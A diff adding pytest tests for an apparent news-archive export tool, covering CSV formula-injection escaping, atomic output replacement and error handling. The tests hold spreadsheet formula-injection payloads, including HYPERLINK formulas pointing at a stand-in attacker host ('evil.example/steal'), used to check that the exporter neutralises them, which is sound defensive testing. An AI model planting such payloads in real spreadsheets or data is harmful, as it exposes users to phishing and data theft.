@@ -70,3 +70,85 @@ def test_rows_stream(archive_path):
         assert next(it)["headline"].startswith("Fighters enter")
         buf = io.StringIO()
         assert write(buf, "jsonl", it) == 6
+
+
+def test_until_the_last_day_there_is(archive_path):
+    out = export(archive_path, "--until", "9999-12-31")
+    assert out.returncode == 0, out.stderr
+    assert len(out.stdout.splitlines()) == 7
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/x","click")', "+1+1", "-2+3", "@SUM(A1)", "\tleading tab",
+            "\rleading return"]
+
+
+def test_csv_neutralises_formulas_and_jsonl_keeps_them():
+    """A cell that starts with = + - @ tab or CR gets a leading ' in CSV (issue 13, item 4)."""
+    records = [{**dict.fromkeys(COLUMNS), "headline": f, "body": "plain", "word_count": -3} for f in FORMULAS]
+    buf = io.StringIO()
+    assert write(buf, "csv", iter(records)) == len(FORMULAS)
+    table = list(csv.DictReader(io.StringIO(buf.getvalue())))
+    assert [r["headline"] for r in table] == ["'" + f for f in FORMULAS]
+    assert {r["body"] for r in table} == {"plain"} and {r["word_count"] for r in table} == {"-3"}
+    raw = io.StringIO()
+    write(raw, "csv", iter(records), escape_formulas=False)
+    assert [r["headline"] for r in csv.DictReader(io.StringIO(raw.getvalue()))] == FORMULAS
+    lines = io.StringIO()
+    write(lines, "jsonl", iter(records))
+    assert [json.loads(line)["headline"] for line in lines.getvalue().splitlines()] == FORMULAS
+
+
+def formula_archive(tmp_path):
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    (inbox / "a.jsonl").write_text(json.dumps({"headline": '=HYPERLINK("http://evil.example/steal","Read")',
+                                               "body": "An article about spreadsheets."}) + "\n")
+    db = tmp_path / "formula.db"
+    out = subprocess.run([sys.executable, "-m", "worker", "--archive", str(db), "backfill", str(inbox)],
+                         cwd=ROOT, capture_output=True, text=True, timeout=60)
+    assert out.returncode == 0, out.stderr
+    return db
+
+
+def test_cli_csv_formulas_escaped_unless_asked(tmp_path):
+    db = formula_archive(tmp_path)
+    out = export(db, "--format", "csv")
+    assert out.returncode == 0, out.stderr
+    assert next(csv.DictReader(io.StringIO(out.stdout)))["headline"] == "'=HYPERLINK(\"http://evil.example/steal\",\"Read\")"
+    out = export(db, "--format", "csv", "--no-escape-formulas")
+    assert next(csv.DictReader(io.StringIO(out.stdout)))["headline"].startswith("=HYPERLINK(")
+    out = export(db)
+    assert json.loads(out.stdout)["headline"].startswith("=HYPERLINK(")
+
+
+@pytest.mark.parametrize("args", [["--since", "banana"], ["NEAR(", "--raw"], ["--until", "2021-13-01"]])
+def test_a_failed_export_leaves_the_file_as_it_was(archive_path, tmp_path, args):
+    """-o FILE is replaced only by a whole export (issue 13, item 16)."""
+    target = tmp_path / "keep.jsonl"
+    target.write_text("precious\n")
+    out = export(archive_path, *args, "-o", str(target))
+    assert out.returncode == 1 and out.stderr.startswith("Error: ") and "Traceback" not in out.stderr
+    assert target.read_text() == "precious\n"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["keep.jsonl"]  # no temporary left behind
+
+
+def test_export_replaces_a_file_whole_and_keeps_its_mode(archive_path, tmp_path):
+    target = tmp_path / "out.jsonl"
+    target.write_text("old\n" * 1000)
+    target.chmod(0o640)
+    out = export(archive_path, "-o", str(target))
+    assert out.returncode == 0, out.stderr
+    assert len(target.read_text().splitlines()) == 7 and (target.stat().st_mode & 0o777) == 0o640
+    fresh = tmp_path / "fresh.csv"
+    out = export(archive_path, "--format", "csv", "-o", str(fresh))
+    assert out.returncode == 0 and (fresh.stat().st_mode & 0o777) == 0o644
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["fresh.csv", "out.jsonl"]
+
+
+@pytest.mark.parametrize("where", ["missing/out.jsonl", "/dev/full"])
+def test_an_output_that_cannot_be_written_is_one_line(archive_path, tmp_path, where):
+    path = where if where.startswith("/") else str(tmp_path / where)
+    out = export(archive_path, "-o", path)
+    assert out.returncode == 1, out.stderr
+    assert out.stderr.startswith(f"Error: cannot write {path}: ") and len(out.stderr.strip().splitlines()) == 1
+    assert not (tmp_path / "missing").exists()
